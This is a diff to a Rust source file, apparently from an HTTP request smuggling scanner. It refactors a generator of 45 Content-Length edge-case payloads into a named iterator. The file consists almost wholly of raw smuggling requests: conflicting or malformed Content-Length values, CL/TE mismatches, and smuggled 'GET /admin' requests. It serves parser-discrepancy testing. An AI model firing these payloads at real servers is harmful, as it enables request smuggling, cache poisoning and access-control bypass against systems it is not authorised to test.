@@ -1,9 +1,76 @@
-use super::{format_cookies, format_custom_headers};
+use super::{PayloadIter, RequestParts};
+
+/// Number of Content-Length edge case payloads.
+const CL_EDGE_PAYLOAD_COUNT: usize = 45;
+
+/// Name of each Content-Length edge case payload, by index.
+const CL_EDGE_PAYLOAD_NAMES: [&str; CL_EDGE_PAYLOAD_COUNT] = [
+    "dual-cl-0-6",
+    "dual-cl-6-0",
+    "triple-cl",
+    "dual-cl-same-te",
+    "leading-zero",
+    "leading-zeros",
+    "plus-sign",
+    "negative",
+    "hex",
+    "decimal",
+    "scientific",
+    "nul-suffix",
+    "trailing-space",
+    "cl0-smuggled-request",
+    "cl0-chunked-body",
+    "cl5-chunked-body",
+    "cl100-short-chunked",
+    "space-before-colon",
+    "lowercase-name",
+    "underscore-name",
+    "nospace",
+    "tab-after-colon",
+    "chunk-size-leading-zeros",
+    "chunk-extension",
+    "chunk-extensions",
+    "chunk-trailers",
+    "data-after-last-chunk",
+    "uppercase-chunk-size",
+    "chunk-size-whitespace",
+    "te-before-cl",
+    "cl-before-te",
+    "te-cl0-body",
+    "large-cl-short-chunked",
+    "plus-leading-zero",
+    "leading-spaces",
+    "leading-space-tab",
+    "long-leading-zeros",
+    "comma-duplicate",
+    "comma-duplicate-nospace",
+    "letter-suffix",
+    "semicolon-suffix",
+    "comma-suffix",
+    "comma-0-6",
+    "comma-6-0",
+    "space-separated",
+];
 
 /// Generate Content-Length edge case payloads for parser discrepancy testing.
 ///
 /// These payloads target edge cases in how proxies and servers parse
 /// Content-Length values and handle CL/TE interactions.
+pub fn cl_edge_case_payloads(
+    path: &str,
+    host: &str,
+    method: &str,
+    custom_headers: &[String],
+    cookies: &[String],
+) -> PayloadIter {
+    let parts = RequestParts::new(path, host, method, custom_headers, cookies);
+    PayloadIter::new(CL_EDGE_PAYLOAD_COUNT, move |i| {
+        build_cl_edge_payload(&parts, i)
+    })
+    .named(|i, _| CL_EDGE_PAYLOAD_NAMES[i].to_string())
+}
+
+/// Eagerly collected [`cl_edge_case_payloads`]
 pub fn get_cl_edge_case_payloads(
     path: &str,
     host: &str,
@@ -11,187 +78,258 @@ pub fn get_cl_edge_case_payloads(
     custom_headers: &[String],
     cookies: &[String],
 ) -> Vec<String> {
-    let headers_str = format_custom_headers(custom_headers);
-    let cookies_str = format_cookies(cookies);
+    cl_edge_case_payloads(path, host, method, custom_headers, cookies)
+        .map(|p| p.request)
+        .collect()
+}
 
-    let mut payloads = Vec::with_capacity(40);
-
-    // === Multiple Content-Length headers ===
-
-    // First CL=0, second CL=6 (smuggle body past CL:0)
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\nContent-Length: 6\r\n\r\nSMUGGL"
-    ));
-
-    // First CL=6, second CL=0 (reversed order)
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nContent-Length: 0\r\n\r\nSMUGGL"
-    ));
-
-    // Three CL headers with conflicting values
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\nContent-Length: 6\r\nContent-Length: 0\r\n\r\nSMUGGL"
-    ));
-
-    // Duplicate CL with same value but smuggled body
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // === CL value parsing edge cases ===
-
-    // Leading zeros: 06 instead of 6
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 06\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Leading zeros: 006
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 006\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Plus prefix: +6
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: +6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Negative value: -1
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: -1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Hex notation: 0x06
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0x06\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Decimal notation: 6.0
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Scientific notation: 6e0
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6e0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Null byte suffix
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\x00\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Trailing space
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6 \r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // === CL: 0 with smuggled body ===
-
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n"
-    ));
-
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // === CL with chunked body mismatch ===
-
-    // CL says 5 bytes but body is chunked encoded
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 5\r\n\r\n1\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // CL says 100 bytes but body is short chunked
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
-    ));
-
-    // === CL header name variations ===
-
-    // Space before colon
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length : 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Lowercase header name
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}content-length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Underscore variation
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content_Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // No space after colon
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length:6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // Tab after colon
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length:\t6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // === Chunked body edge cases ===
-
-    // Leading zeros in chunk size
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n001\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // Chunk extension: ;ext=val
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n1;ext=val\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // Multiple chunk extensions
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n1;a=b;c=d\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // Trailers after final chunk
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\nTrailer: value\r\n\r\n"
-    ));
-
-    // Data after final 0-chunk
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n"
-    ));
-
-    // Uppercase hex chunk size
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\nA\r\n0123456789\r\n0\r\n\r\n"
-    ));
-
-    // Chunk size with leading whitespace
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n 1\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // === TE + CL ordering variations ===
-
-    // TE first, CL second
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG"
-    ));
-
-    // CL first, TE second (standard CL.TE order)
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // TE with CL=0 and body
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n1\r\nA\r\n0\r\n\r\n"
-    ));
-
-    // Large CL with short chunked body
-    payloads.push(format!(
-        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 999\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
-    ));
-
-    payloads
+fn build_cl_edge_payload(parts: &RequestParts, index: usize) -> String {
+    let RequestParts {
+        method,
+        path,
+        host,
+        headers: headers_str,
+        cookies: cookies_str,
+    } = parts;
+
+    match index {
+        // === Multiple Content-Length headers ===
+
+        // First CL=0, second CL=6 (smuggle body past CL:0)
+        0 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\nContent-Length: 6\r\n\r\nSMUGGL"
+        ),
+
+        // First CL=6, second CL=0 (reversed order)
+        1 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nContent-Length: 0\r\n\r\nSMUGGL"
+        ),
+
+        // Three CL headers with conflicting values
+        2 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\nContent-Length: 6\r\nContent-Length: 0\r\n\r\nSMUGGL"
+        ),
+
+        // Duplicate CL with same value but smuggled body
+        3 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // === CL value parsing edge cases ===
+
+        // Leading zeros: 06 instead of 6
+        4 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 06\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Leading zeros: 006
+        5 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 006\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Plus prefix: +6
+        6 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: +6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Negative value: -1
+        7 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: -1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Hex notation: 0x06
+        8 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0x06\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Decimal notation: 6.0
+        9 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Scientific notation: 6e0
+        10 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6e0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Null byte suffix
+        11 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\x00\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Trailing space
+        12 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6 \r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // === CL: 0 with smuggled body ===
+        13 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n"
+        ),
+
+        14 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // === CL with chunked body mismatch ===
+
+        // CL says 5 bytes but body is chunked encoded
+        15 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 5\r\n\r\n1\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // CL says 100 bytes but body is short chunked
+        16 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+        ),
+
+        // === CL header name variations ===
+
+        // Space before colon
+        17 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length : 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Lowercase header name
+        18 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}content-length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Underscore variation
+        19 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content_Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // No space after colon
+        20 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length:6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Tab after colon
+        21 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length:\t6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // === Chunked body edge cases ===
+
+        // Leading zeros in chunk size
+        22 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n001\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // Chunk extension: ;ext=val
+        23 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n1;ext=val\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // Multiple chunk extensions
+        24 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n1;a=b;c=d\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // Trailers after final chunk
+        25 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\nTrailer: value\r\n\r\n"
+        ),
+
+        // Data after final 0-chunk
+        26 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n"
+        ),
+
+        // Uppercase hex chunk size
+        27 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\nA\r\n0123456789\r\n0\r\n\r\n"
+        ),
+
+        // Chunk size with leading whitespace
+        28 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n 1\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // === TE + CL ordering variations ===
+
+        // TE first, CL second
+        29 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // CL first, TE second (standard CL.TE order)
+        30 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // TE with CL=0 and body
+        31 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n1\r\nA\r\n0\r\n\r\n"
+        ),
+
+        // Large CL with short chunked body
+        32 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 999\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+        ),
+
+        // === CL value obfuscation (lenient integer parsing) ===
+
+        // Plus sign and leading zero: +06
+        33 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: +06\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Leading spaces
+        34 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length:    6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Leading space then tab
+        35 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: \t6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Leading zeros past a 20-digit integer
+        36 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 000000000000000000006\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Comma-separated duplicate value
+        37 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6, 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Comma-separated duplicate value without space
+        38 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6,6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Non-digit suffix: letter
+        39 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Non-digit suffix: semicolon
+        40 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6;\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Non-digit suffix: trailing comma
+        41 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6,\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"
+        ),
+
+        // Conflicting comma-separated values: first 0, then 6
+        42 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0, 6\r\n\r\nSMUGGL"
+        ),
+
+        // Conflicting comma-separated values: first 6, then 0
+        43 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 6, 0\r\n\r\nSMUGGL"
+        ),
+
+        // Space-separated values (parsers that stop at the first non-digit read 0)
+        44 => format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: keep-alive\r\n{headers_str}{cookies_str}Content-Length: 0 6\r\n\r\nSMUGGL"
+        ),
+        _ => unreachable!("cl-edge payload index {} out of range", index),
+    }
 }